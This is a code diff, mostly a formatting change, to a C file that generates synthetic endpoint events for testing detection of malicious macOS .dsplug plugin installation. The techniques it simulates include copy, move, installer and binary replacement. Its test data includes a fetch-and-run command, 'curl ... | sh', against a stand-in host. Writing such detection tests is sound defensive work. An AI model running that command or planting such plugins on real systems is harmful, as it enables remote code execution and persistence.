@@ -9,7 +9,7 @@
 
 /* One event: a process start (file NULL) or a file event by that process. */
 struct synthetic {
-	const char *type, *action; /* event.type, event.action */
+	const char *type, *action;   /* event.type, event.action */
 	const char *file, *original; /* file.path, file.Ext.original.path (renames) */
 	const char *process, *executable, *parent;
 	const char *args[8];
@@ -20,54 +20,101 @@ struct technique_events {
 };
 
 const struct technique techniques[] = {
-	{"plain-file", "plain file named X.dsplug (Elastic's own test)"},
-	{"copy-bundle", "bundle copied in with cp -R"},
-	{"write-in-place", "bundle written in place by a script"},
-	{"move-bundle", "bundle moved in with mv (a rename)"},
-	{"installer-package", "installer package unpacks a bundle"},
-	{"replace-binary", "binary replaced inside an existing plugin"},
-	{"upper-case-suffix", "upper-case suffix X.DSPLUG"},
-	{"loader-starts-process", "loaded plugin starts a process"},
-	{"copy-then-run", "bundle copied in, then loaded: starts a process"},
+    {"plain-file", "plain file named X.dsplug (Elastic's own test)"},
+    {"copy-bundle", "bundle copied in with cp -R"},
+    {"write-in-place", "bundle written in place by a script"},
+    {"move-bundle", "bundle moved in with mv (a rename)"},
+    {"installer-package", "installer package unpacks a bundle"},
+    {"replace-binary", "binary replaced inside an existing plugin"},
+    {"upper-case-suffix", "upper-case suffix X.DSPLUG"},
+    {"loader-starts-process", "loaded plugin starts a process"},
+    {"copy-then-run", "bundle copied in, then loaded: starts a process"},
 };
 const size_t ntechniques = sizeof(techniques) / sizeof(techniques[0]);
 
 static const struct technique_events events[] = {
-	{{{"start", "exec", NULL, NULL, "bash", "/bin/bash", "zsh", {"bash", "-c", "echo test > " PLUGINS "test.dsplug"}},
-	  {"creation", "creation", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}},
-	  {"change", "modification", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
-	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "python3", "/usr/bin/python3", "zsh", {"python3", "/tmp/drop.py"}},
-	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "python3", "/usr/bin/python3", "zsh",
-	   {NULL}},
-	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "python3", "/usr/bin/python3", "zsh",
-	   {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "mv", "/bin/mv", "zsh", {"mv", "/tmp/Evil.dsplug", PLUGINS}},
-	  {"change", "rename", PLUGINS "Evil.dsplug", "/tmp/Evil.dsplug", "mv", "/bin/mv", "zsh", {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "installer", "/usr/sbin/installer", "sudo",
-	   {"installer", "-pkg", "/tmp/Evil.pkg", "-target", "/"}},
-	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "system_installd",
-	   "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd", "launchd",
-	   {NULL}},
-	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "system_installd",
-	   "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd", "launchd",
-	   {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh",
-	   {"cp", "/tmp/payload", PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin"}},
-	  {"change", "modification", PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin", NULL, "cp", "/bin/cp", "zsh",
-	   {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "/tmp/payload", PLUGINS "test.DSPLUG"}},
-	  {"creation", "creation", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"change", "modification", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
-	{{{"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "curl -s https://example.invalid/x | sh"}}}},
-	{{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
-	  {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
-	  {"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "id"}}}},
+    {{{"start", "exec", NULL, NULL, "bash", "/bin/bash", "zsh", {"bash", "-c", "echo test > " PLUGINS "test.dsplug"}},
+      {"creation", "creation", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}},
+      {"change", "modification", PLUGINS "test.dsplug", NULL, "bash", "/bin/bash", "zsh", {NULL}}}},
+    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
+      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"change", "modification", PLUGINS "Evil.dsplug/Contents/Info.plist", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
+    {{{"start", "exec", NULL, NULL, "python3", "/usr/bin/python3", "zsh", {"python3", "/tmp/drop.py"}},
+      {"creation",
+       "creation",
+       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
+       NULL,
+       "python3",
+       "/usr/bin/python3",
+       "zsh",
+       {NULL}},
+      {"change",
+       "modification",
+       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
+       NULL,
+       "python3",
+       "/usr/bin/python3",
+       "zsh",
+       {NULL}}}},
+    {{{"start", "exec", NULL, NULL, "mv", "/bin/mv", "zsh", {"mv", "/tmp/Evil.dsplug", PLUGINS}},
+      {"change", "rename", PLUGINS "Evil.dsplug", "/tmp/Evil.dsplug", "mv", "/bin/mv", "zsh", {NULL}}}},
+    {{{"start",
+       "exec",
+       NULL,
+       NULL,
+       "installer",
+       "/usr/sbin/installer",
+       "sudo",
+       {"installer", "-pkg", "/tmp/Evil.pkg", "-target", "/"}},
+      {"creation",
+       "creation",
+       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
+       NULL,
+       "system_installd",
+       "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd",
+       "launchd",
+       {NULL}},
+      {"change",
+       "modification",
+       PLUGINS "Evil.dsplug/Contents/MacOS/Evil",
+       NULL,
+       "system_installd",
+       "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/system_installd",
+       "launchd",
+       {NULL}}}},
+    {{{"start",
+       "exec",
+       NULL,
+       NULL,
+       "cp",
+       "/bin/cp",
+       "zsh",
+       {"cp", "/tmp/payload", PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin"}},
+      {"change",
+       "modification",
+       PLUGINS "NiPlugin.dsplug/Contents/MacOS/NiPlugin",
+       NULL,
+       "cp",
+       "/bin/cp",
+       "zsh",
+       {NULL}}}},
+    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "/tmp/payload", PLUGINS "test.DSPLUG"}},
+      {"creation", "creation", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"change", "modification", PLUGINS "test.DSPLUG", NULL, "cp", "/bin/cp", "zsh", {NULL}}}},
+    {{{"start",
+       "exec",
+       NULL,
+       NULL,
+       "sh",
+       "/bin/sh",
+       "dspluginhelperd",
+       {"sh", "-c", "curl -s https://example.invalid/x | sh"}}}},
+    {{{"start", "exec", NULL, NULL, "cp", "/bin/cp", "zsh", {"cp", "-R", "/tmp/Evil.dsplug", PLUGINS}},
+      {"creation", "creation", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"change", "modification", PLUGINS "Evil.dsplug/Contents/MacOS/Evil", NULL, "cp", "/bin/cp", "zsh", {NULL}},
+      {"start", "exec", NULL, NULL, "sh", "/bin/sh", "dspluginhelperd", {"sh", "-c", "id"}}}},
 };
 
 static void add_time(cJSON *obj, const char *key, int64_t us)
@@ -89,7 +136,8 @@ static cJSON *synthetic_event(const struct synthetic *s, const char *host, int64
 	add_time(ev, "@timestamp", at);
 	int is_file = s->file != NULL;
 	cJSON *event = cJSON_AddObjectToObject(ev, "event");
-	cJSON_AddItemToObject(event, "category", cJSON_CreateStringArray((const char *[]){is_file ? "file" : "process"}, 1));
+	cJSON_AddItemToObject(event, "category",
+	                      cJSON_CreateStringArray((const char *[]){is_file ? "file" : "process"}, 1));
 	cJSON_AddItemToObject(event, "type", cJSON_CreateStringArray(&s->type, 1));
 	cJSON_AddStringToObject(event, "action", s->action);
 	cJSON_AddStringToObject(event, "kind", "event");
@@ -124,8 +172,8 @@ static cJSON *synthetic_event(const struct synthetic *s, const char *host, int64
 		cJSON_AddStringToObject(f, "path", s->file);
 		cJSON_AddStringToObject(f, "name", base_name(s->file));
 		if (s->original)
-			cJSON_AddStringToObject(cJSON_AddObjectToObject(cJSON_AddObjectToObject(f, "Ext"), "original"), "path",
-						s->original);
+			cJSON_AddStringToObject(cJSON_AddObjectToObject(cJSON_AddObjectToObject(f, "Ext"), "original"),
+			                        "path", s->original);
 	}
 	cJSON_AddStringToObject(cJSON_AddObjectToObject(ev, "user"), "name", "root");
 	cJSON_AddStringToObject(cJSON_AddObjectToObject(ev, "agent"), "type", "endpoint");
